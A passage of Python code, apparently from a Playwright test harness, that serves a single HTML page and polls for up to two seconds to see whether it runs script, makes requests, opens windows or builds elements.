            route.fulfill(content_type="text/html; charset=utf-8", body=body)
            if urlsplit(route.request.url).path == "/"
            else route.fulfill(status=404)
        ),
    )
    told = (watch.ran, watch.requests, watch.opened)
    for found in (*told, watch.built):
        found.clear()
    page.goto(watch.address)
    with suppress(Exception):  # A page that leads away is gone before it was looked at.
        watch.look(page, name)
    if name in BUILT_ONLY:
        return bool(watch.built)
    for _ in range(40):
        if any(told):
            return True
        page.wait_for_timeout(50)
    return False
